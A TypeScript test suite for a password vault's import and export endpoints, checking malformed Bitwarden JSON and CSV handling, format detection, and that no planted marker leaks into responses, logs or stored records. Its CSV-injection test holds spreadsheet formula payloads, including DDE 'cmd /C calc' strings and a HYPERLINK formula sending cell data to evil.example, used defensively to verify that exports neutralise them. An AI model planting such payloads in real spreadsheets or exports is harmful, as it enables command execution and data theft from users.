import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { buildOpenApi, type Secret, type SecretMetadata } from '@kmsvault/core';
import * as fc from 'fast-check';
import type { LocalStack } from '../../src/stack';
import {
  call,
  type captureStdout,
  OpenApiRecorder,
  startTestStack,
  type TestRequest,
  type TestResponse,
  type TestStack,
} from '../../src/testing';

type Problem = { code: string; status: number; detail: string; errors?: { path: string; message: string }[] };
type ImportResult = {
  imported: number;
  failed: number;
  skipped: number;
  skippedRows: { row: number; id: string; reason: string }[];
  errors: { row: number; message: string }[];
  warnings: { row: number; fields: string[]; message: string }[];
  ids: string[];
};

/** The cells of CSV text (RFC 4180, `\n` records), read independently of the csv-parse the vault uses. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (!quoted && ch === ',') {
      row.push(cell);
      cell = '';
    } else if (!quoted && ch === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Planted in every value this suite sends: no answer, log or stored record may carry it. */
const MARK = 'IMPORT-HARDENING-MARK';

describe('Import and export hardening over HTTP (issue 13, items 10 and 13)', () => {
  let stack: LocalStack;
  let logs: ReturnType<typeof captureStdout>;
  const recorder = new OpenApiRecorder();
  let counter = 0;

  let suite: TestStack | undefined;

  beforeAll(async () => {
    suite = await startTestStack('import', {}, 'DEBUG');
    ({ stack, logs } = suite);
  });

  afterAll(() => suite?.stop());

  /** A signed-up, logged-in user; every response is recorded for the OpenAPI check. */
  async function newUser() {
    const n = ++counter;
    const username = `import-${process.pid}-${n}`;
    const password = `login password ${n} for the import suite`;
    const send = async <T>(path: string, req: TestRequest): Promise<TestResponse<T>> => {
      const res = await call<T>(stack.info.apiUrl, path, req);
      const method = req.method ?? (req.body === undefined ? 'GET' : 'POST');
      const type = res.headers['content-type'] as string | undefined;
      recorder.record(method, path, res.status, type, res.body ?? undefined);
      return res;
    };
    await send('/v1/auth/signup', { method: 'POST', body: { username, password } });
    const login = await send<{ accessToken: string }>('/v1/auth/login', {
      method: 'POST',
      body: { username, password },
    });
    const bearer = login.body.accessToken;
    let keys = 0;
    return {
      get: <T>(path: string) => send<T>(path, { bearer }),
      import: <T = ImportResult>(format: string | undefined, content: string) =>
        send<T>('/v1/import', {
          method: 'POST',
          bearer,
          headers: { 'idempotency-key': `import-${++keys}` },
          body: format === undefined ? { content } : { format, content },
        }),
      create: (body: Record<string, unknown>) =>
        send<{ id: string }>('/v1/secrets', {
          method: 'POST',
          bearer,
          headers: { 'idempotency-key': `create-${++keys}` },
          body,
        }),
    };
  }

  const login = (n: number) => ({
    type: 1,
    name: `Site ${n}`,
    login: { uris: [{ uri: `https://site${n}.example` }], username: 'me', password: `${MARK}-${n}` },
  });
  const bitwarden = (items: unknown[], extra: Record<string, unknown> = {}) =>
    JSON.stringify({ encrypted: false, folders: [], items, ...extra });

  describe('item 13: malformed Bitwarden JSON', () => {
    it('answers per-row errors naming row and field for malformed items, never 500, and imports the rest', async () => {
      // Arrange
      const api = await newUser();
      const content = bitwarden([
        login(1),
        { ...login(2), fields: `oops ${MARK}` },
        { ...login(3), fields: [null] },
        { ...login(4), login: 5 },
        { ...login(5), login: { uris: [{ uri: 7 }], password: `${MARK}` } },
        { ...login(6), name: 5 },
        null,
        `${MARK} an item that is a string`,
        login(9),
      ]);

      // Act
      const res = await api.import('bitwarden-json', content);

      // Assert
      expect(res.status).toBe(200);
      expect(res.body).toEqual({
        imported: 2,
        failed: 7,
        skipped: 0,
        skippedRows: [],
        mapped: [],
        errors: [
          { row: 2, message: 'fields must be an array' },
          { row: 3, message: 'fields[0] must be an object' },
          { row: 4, message: 'login must be an object' },
          { row: 5, message: 'login.uris[0].uri must be a string' },
          { row: 6, message: 'name must be a string' },
          { row: 7, message: 'item must be an object' },
          { row: 8, message: 'item must be an object' },
        ],
        warnings: [],
        ids: [expect.any(String), expect.any(String)],
      });
      expect(res.text).not.toContain(MARK);
      const list = await api.get<{ items: SecretMetadata[] }>('/v1/secrets');
      expect(list.body.items.map((i) => i.name).sort()).toEqual(['Site 1', 'Site 9']);
    });

    it.each([
      ['folders: [1]', bitwarden([login(1)], { folders: [1] }), 'content.folders[0]', 'must be an object'],
      ['folders: "…"', bitwarden([login(1)], { folders: MARK }), 'content.folders', 'must be an array'],
      ['items: "…"', JSON.stringify({ items: MARK }), 'content.items', 'must be an array'],
      ['no items', JSON.stringify({ folders: [] }), 'content.items', 'is required'],
      ['a JSON array', JSON.stringify([login(1)]), 'content', 'must be an object'],
    ])(
      'answers 400 naming the field for a document whose shape is wrong: %s',
      async (_, content, path, message) => {
        const api = await newUser();
        const res = await api.import<Problem>('bitwarden-json', content);
        expect(res.status).toBe(400);
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        expect(res.body.code).toBe('validation_failed');
        expect(res.body.errors).toContainEqual({ path, message });
        expect(res.text).not.toContain(MARK);
        expect((await api.get<{ items: unknown[] }>('/v1/secrets')).body.items).toEqual([]);
      },
    );

    it('answers 200 or 400, never 500, for arbitrary JSON where an item or a member belongs (fast-check)', async () => {
      const api = await newUser();
      const member = fc.constantFrom(
        'name',
        'notes',
        'folderId',
        'login',
        'fields',
        'type',
        'card',
        'favorite',
      );
      const item = fc.oneof(
        fc.jsonValue({ maxDepth: 3 }),
        fc.tuple(member, fc.jsonValue({ maxDepth: 3 })).map(([k, v]) => ({ ...login(1), [k]: v })),
        fc
          .tuple(fc.constantFrom('uris', 'username', 'password', 'totp'), fc.jsonValue({ maxDepth: 3 }))
          .map(([k, v]) => ({ ...login(1), login: { ...login(1).login, [k]: v } })),
      );
      const document = fc.oneof(
        fc.array(item, { maxLength: 4 }).map((items) => bitwarden(items)),
        fc.jsonValue({ maxDepth: 3 }).map((folders) => bitwarden([login(1)], { folders })),
        fc.jsonValue({ maxDepth: 3 }).map((v) => JSON.stringify(v)),
      );
      await fc.assert(
        fc.asyncProperty(document, async (content) => {
          const res = await api.import<ImportResult & Problem>('bitwarden-json', content);
          expect([200, 400]).toContain(res.status);
          if (res.status === 400) expect(res.body.code).toBe('validation_failed');
          else
            expect(res.body.imported + res.body.failed + res.body.skipped).toBe(
              JSON.parse(content).items.length,
            );
          expect(res.text).not.toContain(MARK);
        }),
        { numRuns: 40 },
      );
    });
  });

  describe('item 13: values the vault has no place for', () => {
    it('lands a login with its TOTP, every URI and custom fields, a card and a note, and warns of passkeys by name only', async () => {
      // Arrange
      const api = await newUser();
      const content = bitwarden([
        {
          ...login(1),
          login: {
            ...login(1).login,
            totp: `otpauth://totp/${MARK}`,
            uris: [{ uri: 'https://one.example' }, { uri: `https://${MARK}.example`, match: 1 }],
            fido2Credentials: [{ credentialId: MARK }],
          },
          fields: [
            { name: 'tags', value: 'work', type: 0 },
            { name: `${MARK} question`, value: `${MARK} answer`, type: 1 },
          ],
        },
        { type: 3, name: 'Visa', card: { number: `4111${MARK}`, code: '123' } },
        { type: 2, name: 'Note', notes: `${MARK} note`, secureNote: { type: 0 } },
      ]);

      // Act
      const res = await api.import('bitwarden-json', content);

      // Assert
      expect(res.status).toBe(200);
      expect(res.body).toEqual({
        imported: 3,
        failed: 0,
        skipped: 0,
        skippedRows: [],
        mapped: [],
        errors: [],
        warnings: [
          {
            row: 1,
            fields: ['login.fido2Credentials'],
            message: 'not imported, kmsvault has no place for them yet: login.fido2Credentials',
          },
        ],
        ids: [expect.any(String), expect.any(String), expect.any(String)],
      });
      expect(res.text).not.toContain(MARK);
      const stored = await api.get<Secret>(`/v1/secrets/${res.body.ids[0]}`);
      expect(stored.body).toMatchObject({
        name: 'Site 1',
        url: 'https://one.example',
        uris: [
          { uri: 'https://one.example', match: 'domain' },
          { uri: `https://${MARK}.example`, match: 'host' },
        ],
        totp: `otpauth://totp/${MARK}`,
        fields: [{ name: `${MARK} question`, value: `${MARK} answer`, type: 'hidden' }],
        tags: ['work'],
      });
      const card = await api.get<Secret>(`/v1/secrets/${res.body.ids[1]}`);
      expect(card.body).toMatchObject({ type: 'card', card: { number: `4111${MARK}`, code: '123' } });
    });

    it('detects the format when none is given: a LastPass CSV with a secure note, and refuses CSV no format has', async () => {
      const api = await newUser();
      const lastpass =
        'url,username,password,extra,name,grouping,fav\nhttp://sn,,,the note,Wi-Fi,Home,1\nhttps://a.example,al,pw,,A,Web,0\n';
      const res = await api.import(undefined, lastpass);
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ imported: 2, failed: 0 });
      const note = await api.get<Secret>(`/v1/secrets/${res.body.ids[0]}`);
      expect(note.body).toMatchObject({
        type: 'note',
        name: 'Wi-Fi',
        notes: 'the note',
        folder: 'Home',
        favorite: true,
      });
      const unknown = await api.import<{ detail: string }>(undefined, `a,b\n${MARK},2\n`);
      expect(unknown.status).toBe(400);
      expect(unknown.body.detail).toContain('No import format has these columns: a, b');
      expect(unknown.text).not.toContain(MARK);
    });

    it('keeps a Bitwarden CSV row’s favourite, TOTP and custom fields, quoting none of them', async () => {
      const api = await newUser();
      const header =
        'folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,login_password,login_totp';
      const res = await api.import(
        'bitwarden-csv',
        `${header}\n,1,login,A,,"tags: x\nPIN: ${MARK}",0,https://a.example,me,pw,${MARK}\n,,card,B,,,,,,,`,
      );
      expect(res.status).toBe(200);
      expect(res.body.errors).toEqual([{ row: 2, message: 'type must be login or note' }]);
      expect(res.body.warnings).toEqual([]);
      expect(res.text).not.toContain(MARK);
      const stored = await api.get<Secret>(`/v1/secrets/${res.body.ids[0]}`);
      expect(stored.body).toMatchObject({
        favorite: true,
        totp: MARK,
        tags: ['x'],
        fields: [{ name: 'PIN', value: MARK, type: 'hidden' }],
      });
    });

    it('answers 400 for unreadable CSV without echoing the cell it stopped at', async () => {
      const api = await newUser();
      const res = await api.import<Problem>(
        'chrome-csv',
        `name,url,username,password\nA,https://a.example,me,${MARK}"x`,
      );
      expect(res.status).toBe(400);
      expect(res.body.detail).toBe(
        'The CSV could not be read at line 2: a quote inside a cell that does not begin with one.',
      );
      expect(res.text).not.toContain(MARK);
    });
  });

  describe('item 10: CSV injection', () => {
    const attacks = {
      name: "@SUM(1+1)*cmd|' /C calc'!A0",
      url: '=HYPERLINK("https://evil.example/?x="&A1,"open")',
      username: '-2+3',
      password: "+cmd|' /C calc'!A0",
      notes: '\t=1+1',
      folder: '\r=cmd',
    };

    it('exports no cell a spreadsheet would run, and a re-import gives back every value exactly', async () => {
      // Arrange
      const alice = await newUser();
      await alice.create({ ...attacks, tags: ['x'] });
      await alice.create({ name: "'=already quoted", password: "'-1", username: "''=two", notes: "don't" });

      // Act
      const csv = await alice.get('/v1/export?format=csv');
      const bob = await newUser();
      const imported = await bob.import('bitwarden-csv', csv.text);

      // Assert
      expect(csv.status).toBe(200);
      const cells = csvCells(csv.text).slice(1).flat();
      expect(cells).toHaveLength(22);
      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(cells).toEqual(expect.arrayContaining([`'${attacks.url}`, `''=already quoted`, "don't"]));
      expect(imported.body).toMatchObject({ imported: 2, failed: 0, warnings: [] });
      const read = async (api: Awaited<ReturnType<typeof newUser>>) => {
        const items = (await api.get<{ items: SecretMetadata[] }>('/v1/secrets')).body.items;
        const full = await Promise.all(
          items.map(async (i) => (await api.get<Secret>(`/v1/secrets/${i.id}`)).body),
        );
        return full
          .map(({ id: _i, version: _v, createdAt: _c, updatedAt: _u, ...rest }) => rest)
          .sort((a, b) => a.name.localeCompare(b.name));
      };
      expect(await read(bob)).toEqual(await read(alice));
      expect((await read(bob)).find((s) => s.name === "'=already quoted")).toMatchObject({
        password: "'-1",
        username: "''=two",
      });
    });
  });

  describe('after the suite', () => {
    it('validates every response against the OpenAPI document (warnings included)', () => {
      expect(recorder.count).toBeGreaterThan(20);
      expect(recorder.check(buildOpenApi())).toEqual([]);
    });

    it('stores no value of a rejected or reported field in the idempotency records', async () => {
      const out = await stack.dynamodb.send(new ScanCommand({ TableName: stack.config.tables.idempotency }));
      expect(out.Items?.length).toBeGreaterThan(0);
      expect(JSON.stringify(out.Items)).not.toContain(MARK);
    });

    it('logs no value', () => {
      const all = logs.text();
      expect(all).toContain('import finished');
      expect(all).not.toContain(MARK);
    });
  });
});
